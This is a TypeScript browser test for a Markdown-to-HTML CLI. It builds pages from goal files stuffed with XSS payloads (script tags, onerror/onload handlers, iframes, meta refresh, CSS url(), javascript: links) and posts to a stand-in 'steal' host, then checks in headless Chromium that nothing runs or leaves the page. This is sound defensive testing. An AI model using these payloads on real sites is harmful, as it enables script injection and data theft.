/**
 * Payloads in a real browser: Markdown bodies and front-matter strings that would run script or make a request
 * (script, onerror images, svg onload, iframe srcdoc, meta refresh, CSS url(), stylesheets, form actions, …)
 * are built by the real CLI, and the HTML is opened in headless Chromium with every request intercepted.
 * Nothing may leave the page (the document itself and data: URLs aside), and no payload may run: each one sets
 * window.__pwned, opens a dialog or logs “pwned”.
 */
import { cp, mkdir, readdir, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Browser } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { launchBrowser, offlinePage } from '../browser.js';
import { FIXTURES, runCli, tempDir } from '../helpers.js';

/** A port nothing listens on: a request that gets through still fails, but it is seen and counted. */
const EVIL = 'http://127.0.0.1:9';
const RUN = 'window.__pwned=1;alert(1);console.log(&quot;pwned&quot;)';

// A Markdown image with a web address is refused by the build (asset/remote, in the corpus); raw <img> is not, so it stays here.
const BODY = `
<script>window.__pwned=1;alert(1);console.log("pwned")</script>
<script src="${EVIL}/x.js"></script>

<img src="x" onerror="${RUN}"> <img src="${EVIL}/img.png"> <img srcset="${EVIL}/set.png 1x">

<svg onload="${RUN}"><script>window.__pwned=1</script><image href="${EVIL}/svg.png"/></svg>

<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe> <iframe src="${EVIL}/frame"></iframe>

<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">

<style>body { background: url(${EVIL}/bg.png) } @import "${EVIL}/import.css";</style>
<div style="background-image:url(${EVIL}/div.png)">styled</div>

<link rel="stylesheet" href="${EVIL}/x.css"> <link rel="prefetch" href="${EVIL}/prefetch">

<form action="${EVIL}/steal" method="post"><input name="q" autofocus onfocus="${RUN}"><button formaction="${EVIL}/b">Go</button></form>

<details open ontoggle="${RUN}"><summary>s</summary></details> <body onload="${RUN}">

<object data="${EVIL}/object"></object> <embed src="${EVIL}/embed"> <video poster="${EVIL}/poster.png" src="${EVIL}/v.mp4"></video> <audio autoplay src="${EVIL}/a.mp3"></audio>

<a href="javascript:window.__pwned=1">js</a> [md-js](javascript:window.__pwned=1) <a href="data:text/html,<script>alert(1)</script>">data</a>

<base href="${EVIL}/"> <a ping="${EVIL}/ping" href="#x">ping</a>
`;

const FRONT = (id: string) => `---
kind: goal
id: ${id}
level: operational
parent: sd1
theme: wonen
title: "<img src=x onerror=window.__pwned=1> <script>window.__pwned=1</script>"
statement: "<svg onload=window.__pwned=1></svg> ![x](${EVIL}/fm.png) [y](javascript:window.__pwned=1) <iframe src=${EVIL}/fm-frame></iframe>"
---
${BODY}`;

let browser: Browser;
let dir: string;

beforeAll(async () => {
  dir = await tempDir('planwerk-payload-');
  await cp(path.join(FIXTURES, 'base', 'content'), path.join(dir, 'content'), { recursive: true });
  await mkdir(path.join(dir, 'content', 'goals'), { recursive: true });
  await writeFile(path.join(dir, 'content', 'goals', 'od-payload.md'), FRONT('od-payload'));
  await writeFile(
    path.join(dir, 'content', 'goals', 'sd1.md'),
    `---\nkind: goal\nid: sd1\nlevel: strategic\ncode: SD1\ntitle: "<svg onload=window.__pwned=1>"\nstatement: S\n---\n${BODY}`,
  );
  const r = await runCli(['build', '--format', 'html', '--out', 'dist'], { cwd: dir, env: { SOURCE_DATE_EPOCH: '0' } });
  expect(r.code, r.stderr).toBe(0);
  browser = await launchBrowser();
}, 180_000);

afterAll(async () => {
  await browser?.close();
  await rm(dir, { recursive: true, force: true });
});

describe('payloads in the built HTML, opened in Chromium', () => {
  test('no request leaves the page and no payload runs', async () => {
    const files = (await readdir(path.join(dir, 'dist'))).filter((f) => f.endsWith('.html')).sort();
    expect(files.length).toBeGreaterThan(0);
    for (const file of files) {
      const url = pathToFileURL(path.join(dir, 'dist', file)).href;
      const { page, requests, blocked } = await offlinePage(browser, url);
      const dialogs: string[] = [];
      const console: string[] = [];
      page.on('dialog', (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });
      page.on('console', (m) => console.push(m.text()));
      try {
        await page.goto(url, { waitUntil: 'load', timeout: 60_000 });
        // Give a meta refresh, a lazy image or an autofocus handler time to act.
        await new Promise((resolve) => setTimeout(resolve, 1000));
        expect(requests, file).toContain(url); // interception was active
        expect(blocked(), file).toEqual([]);
        expect(page.url(), file).toBe(url);
        expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), file).toBeUndefined();
        expect(dialogs, file).toEqual([]);
        expect(
          console.filter((m) => /pwned/.test(m)),
          file,
        ).toEqual([]);
        // The payloads are in the plan (goal bodies and fields), as text.
        if (file.startsWith('plan')) expect(await page.evaluate(() => document.body.textContent ?? ''), file).toContain('window.__pwned');
      } finally {
        await page.close();
      }
    }
  }, 300_000);
});
